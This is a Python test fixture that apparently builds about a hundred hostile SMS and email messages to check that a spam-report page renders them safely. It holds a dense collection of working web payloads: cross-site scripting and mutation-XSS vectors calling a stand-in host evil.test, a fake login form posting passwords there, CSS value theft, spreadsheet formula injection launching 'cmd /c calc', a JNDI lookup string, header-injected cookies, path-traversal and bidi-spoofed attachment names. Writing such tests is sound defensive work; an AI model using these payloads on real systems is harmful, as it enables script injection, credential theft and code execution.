# ruff: noqa: E501  each stays in one piece

"""A hundred messages made to come alive on the page that shows them. All are our own; no host in them exists.

Each that runs sets ``window.canary``, asks for something of ``evil.test``, leaves the page or opens a dialog. ``VISIBLE``
stands in each: whoever reads the report must find it, however the rest was taken apart.
"""

from base64 import b64encode
from email.message import EmailMessage
from typing import Any

VISIBLE = "readable-words"
RUN = "window.canary=1;fetch('//evil.test/run')"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT >",
    "script-src": "<script src=//evil.test/x.js></script>",
    "script-module": "<script type=module src=http://evil.test/x.mjs></script>",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-closes-title": f"</title><script>{RUN}</script>",
    "script-closes-textarea": f"</textarea><script>{RUN}</script>",
    "script-closes-pre": f"</pre></bdi></td></table><script>{RUN}</script>",
    "script-closes-script": f"</script><script>{RUN}</script>",
    "script-in-comment": f"<!--><script>{RUN}</script>-->",
    "script-in-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-slash": f"<script/x>{RUN}</script/x>",
    "script-no-close": f"<script>{RUN}//",
    "image-error": f'<img src=x onerror="{RUN}">',
    "image-error-quotes": f'"\'><img src=x onerror="{RUN}">',
    "image-pixel": "<img src='http://evil.test/pixel.gif?u=me' width=1 height=1>",
    "image-srcset": "<img srcset='//evil.test/a.png 1x, //evil.test/b.png 2x'>",
    "image-lazy": "<img loading=eager src=https://evil.test/lazy.png>",
    "picture": "<picture><source srcset=//evil.test/p.webp><img src=//evil.test/p.png></picture>",
    "image-slash": f"<img/src=x/onerror={RUN}>",
    "video": f"<video autoplay onloadstart='{RUN}' src=//evil.test/v.mp4 poster=//evil.test/v.png></video>",
    "audio": f"<audio autoplay src=//evil.test/a.mp3 onerror='{RUN}'>",
    "svg-load": f"<svg onload='{RUN}'>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-entities": "<svg><script>&#119;indow.canary=1</script></svg>",
    "svg-animate": f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "svg-set": "<svg><a><set attributeName=href to=javascript:window.canary=1 /><text y=20>x</text></a></svg>",
    "svg-use": "<svg><use href=//evil.test/x.svg#a></use></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload='{RUN}'></foreignObject></svg>",
    "svg-image": "<svg><image href=http://evil.test/x.png width=9 height=9 /></svg>",
    "math-link": "<math><maction actiontype=statusline xlink:href=javascript:window.canary=1>x</maction></math>",
    "body-load": f"<body onload='{RUN}'>",
    "body-background": "<body background=//evil.test/bg.png>",
    "focus": f"<input autofocus onfocus='{RUN}'>",
    "details-toggle": f"<details open ontoggle='{RUN}'>",
    "marquee": f"<marquee onstart='{RUN}'>x</marquee>",
    "pointer": f"<div style='position:fixed;inset:0' onpointerover='{RUN}' onmousemove='{RUN}'>x</div>",
    "popover": f"<button popovertarget=x>x</button><p id=x popover onbeforetoggle='{RUN}'>x</p>",
    "content-visibility": f"<p style='content-visibility:auto' oncontentvisibilityautostatechange='{RUN}'>x</p>",
    "style-import": "<style>@import url(//evil.test/x.css)</style>",
    "style-background": "<style>body{background:url(http://evil.test/bg.gif)}</style>",
    "style-hides-all": "<style>*{display:none!important}</style>",
    "style-attribute": "<p style='background:url(//evil.test/attr.gif);position:fixed;inset:0;z-index:9'>x</p>",
    "style-font": "<style>@font-face{font-family:x;src:url(//evil.test/f.woff)}*{font-family:x}</style>",
    "style-steals": "<style>input[value^=a]{background:url(//evil.test/a)}</style>",
    "link-stylesheet": "<link rel=stylesheet href=//evil.test/x.css>",
    "link-prefetch": "<link rel=prefetch href=//evil.test/next><link rel=dns-prefetch href=//evil.test>",
    "link-preconnect": "<link rel=preconnect href=http://evil.test><link rel=modulepreload href=//evil.test/m.js>",
    "link-manifest": "<link rel=manifest href=//evil.test/m.json><link rel=icon href=//evil.test/i.ico>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "refresh-script": "<meta http-equiv=refresh content='0;url=javascript:window.canary=1'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "cookie": "<meta http-equiv=Set-Cookie content='spamatlas-session=stolen'>",
    "base": "<base href=http://evil.test/>",
    "frame": "<iframe src=//evil.test/frame></iframe>",
    "frame-document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame-data": "<iframe src='data:text/html,<script>parent.canary=1</script>'></iframe>",
    "frame-script": "<iframe src=javascript:parent.canary=1></iframe>",
    "object": "<object data=//evil.test/o.swf></object><embed src=//evil.test/e.swf>",
    "object-data": "<object data='data:text/html,<script>top.canary=1</script>'></object>",
    "portal": "<portal src=//evil.test></portal><fencedframe src=//evil.test></fencedframe>",
    "form": "<form action=http://evil.test/steal method=post><input name=password autofocus><button>Log in</button></form>",
    "form-taken-over": "<input form=f formaction=//evil.test/steal type=submit value=x><button formaction=//evil.test>y</button>",
    "form-closes-ours": "</form><form action=//evil.test><button>Report</button></form>",
    "dangling": "<img src='//evil.test/?leak=",
    "dangling-form": "<form action='//evil.test/?leak=",
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><slot></slot></template>",
    "noscript-mutation": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    "svg-style-mutation": f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN}'>\">",
    "math-mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "form-mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    "listing-mutation": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "entities": "&lt;script&gt;window.canary=1&lt;/script&gt;&#60;img src=x onerror=window.canary=1&#62;",
    "entities-doubled": "&amp;lt;script&amp;gt;window.canary=1&amp;lt;/script&amp;gt;",
    "full-width": "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
    "clobbers": "<img id=location><form id=document><a id=fetch name=canary href=//evil.test></a></form>",
    "custom-element": f"<x-y onfocus='{RUN}' tabindex=1 autofocus contenteditable>x</x-y>",
    "live-part": f"<div id=receipt data-live><script>{RUN}</script></div>",
}
"""Markup as the text of a message, and as an HTML mail."""

TEXTS = {
    "script-link": "javascript:window.canary=1 see JaVaScRiPt:window.canary=1",
    "data-link": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=",
    "odd-links": "vbscript:x file:///etc/passwd ftp://evil.test/x //evil.test/x http:evil.test http:\\\\evil.test",
    "link-with-markup": 'http://evil.test/"onmouseover="window.canary=1 http://evil.test/\'><script>window.canary=1</script>',
    "link-with-user": "https://bank.example@evil.test/login https://bank.example%2f@evil.test/",
    "template-injection": "{{7*7}} {% import os %} ${7*7} #{7*7} <%= 7*7 %> {{config}} {{''.__class__}} {message} {0.__class__}",
    "format-injection": "%s%s%n %(x)s {} {facts} {text!r} $(id) `id` ${jndi:ldap://evil.test/a}",
    "bidi-override": "invoice\u202egnp.exe\u202c and \u2066\u2067\u2068 left open \u202b\u202e",
    "bidi-marks": "\u200e\u200f\u061c to the left and \u2069\u2069\u2069 closed too often",
    "zero-width": "pay\u200b\u200c\u200d\u2060\ufeffpal \u00adhy\u00adphens \u115f\u3164 blanks",
    "tags": "flag \U000e0001\U000e0041\U000e0042\U000e007f and selectors \ufe0f\U000e0100",
    "controls": "bell \x07 back \x08\x08 escape \x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b0m null \x00 unit \x1f",
    "line-ends": "one\rtwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    "lone-surrogates": "broken \\ud800 pair \ufffe \uffff \ufffd",
    "homoglyphs": "https://www.p\u0430ypal.example/ https://xn--pypal-4ve.test/ https://\u2100.test https://bank\u2024example.test",
    "combining": "Z" + "\u0300\u0316\u0360" * 400 + "algo",
    "long-word": "a" * 15_000,
    "long-link": "https://evil.test/" + "b" * 10_000,
    "many-lines": "\n" * 5_000,
    "many-links": " ".join(f"https://h{n}.evil.test/{n}" for n in range(400)),
    "formula": '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "formula-command": "@SUM(1+9)*cmd|'/c calc'!A0",
    "json-breaks-out": '"}],"x":"</script><script>window.canary=1</script>',
    "event-breaks-out": '\n\ndata: {"x":1}\n\nevent: change\nretry: 1\n\n',
}
"""Texts that are no markup."""

NAMES = {
    "sender-markup": f"<img src=x onerror={RUN}>",
    "sender-bidi": "\u202emoc.knab\u202c",
    "sender-formula": "=cmd|'/c calc'!A0",
    "sender-header": "a@b.example\r\nSet-Cookie: spamatlas-session=stolen\r\n\r\n<script>window.canary=1</script>",
    "sender-attribute": '" autofocus onfocus="window.canary=1',
}
"""Names of senders."""


def reports() -> list[dict[str, Any]]:
    """Every message as a report line with an id of its own; mails as ``raw``."""
    found = [_text(name, text) for name, text in (MARKUP | TEXTS).items()]
    found += [{**_text(name, ""), "sender": sender} for name, sender in NAMES.items()]
    found += [_mail(name, html) for name, html in list(MARKUP.items())[::4]]
    return found + [_raw(name, bytes_) for name, bytes_ in _mails().items()]


def _text(name: str, text: str) -> dict[str, Any]:
    return {"id": name, "channel": "sms", "text": f"{VISIBLE} {text}", "subject": text[:200], "sender": "Bank"}


def _mail(name: str, html: str) -> dict[str, Any]:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@sender.example", "b@example.org", f"{name} in HTML"
    mail.set_content(f"<html><body><p>{VISIBLE}</p>{html}</body></html>", subtype="html")
    return _raw(f"html-{name}", mail.as_bytes())


def _raw(name: str, mail: bytes) -> dict[str, Any]:
    return {"id": name, "channel": "email", "raw": b64encode(mail).decode()}


def _mails() -> dict[str, bytes]:
    nested = EmailMessage()
    nested["From"], nested["To"], nested["Subject"] = "a@sender.example", "b@example.org", "nested"
    nested.set_content(f"{VISIBLE} plain")
    nested.add_alternative(
        f"<p>{VISIBLE}</p><script>{RUN}</script><img src=cid:x><img src=//evil.test/p>", subtype="html"
    )
    nested.add_attachment(f"<script>{RUN}</script>".encode(), maintype="text", subtype="html", filename="../../a.html")
    inner = EmailMessage()
    inner["From"], inner["Subject"] = f"<script>{RUN}</script> <x@y.example>", f"<img src=x onerror={RUN}>"
    inner.set_content(f"<body onload={RUN}>{VISIBLE}", subtype="html")
    nested.add_attachment(inner)
    head = "From: a@sender.example\r\nTo: b@example.org\r\n"
    attached = "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{}\r\n--b\r\n{}\r\n\r\nx\r\n--b--\r\n"
    names = {
        "file-path": 'Content-Disposition: attachment; filename="../../../etc/passwd"',
        "file-bidi": "Content-Disposition: attachment; filename*=utf-8''inv%E2%80%AEfdp.exe",
        "file-markup": f'Content-Disposition: attachment; filename="<svg onload={RUN}>.svg"',
        "file-type": 'Content-Type: text/html; name="x.html"\r\nContent-Disposition: inline',
        "file-null": 'Content-Disposition: attachment; filename="a.exe\\0.txt"',
    }
    return {
        "nested-mail": nested.as_bytes(),
        "header-folds": f"{head}Subject: {VISIBLE}\r\n <script>{RUN}</script>\r\n\t<img src=//evil.test>\r\n\r\n{VISIBLE}".encode(),
        "header-encoded": (
            f"{head}Subject: =?utf-8?b?{b64encode(f'<script>{RUN}</script>'.encode()).decode()}?=\r\n\r\n{VISIBLE}"
        ).encode(),
        "received-markup": (
            f'Received: from <script>{RUN}</script> ([192.0.2.1]) by "><img src=//evil.test/r> with SMTP;'
            f" Mon, 2 Mar 2026 09:15:00 +0000\r\n{head}Subject: x\r\n\r\n{VISIBLE}"
        ).encode(),
        "authentication-markup": (
            f'Authentication-Results: "><script>{RUN}</script>; spf=pass smtp.mailfrom=<img/src=//evil.test>\r\n'
            f"{head}Subject: x\r\n\r\n{VISIBLE}"
        ).encode(),
        "charset-utf7": (
            f"{head}Content-Type: text/html; charset=utf-7\r\n\r\n{VISIBLE} +ADw-script+AD4-{RUN}+ADw-/script+AD4-"
        ).encode(),
        "message-id": f'{head}Message-ID: <"><svg onload={RUN}>@x>\r\nSubject: x\r\n\r\n{VISIBLE}'.encode(),
        **{name: (head + attached.format(VISIBLE, field)).encode() for name, field in names.items()},
    }
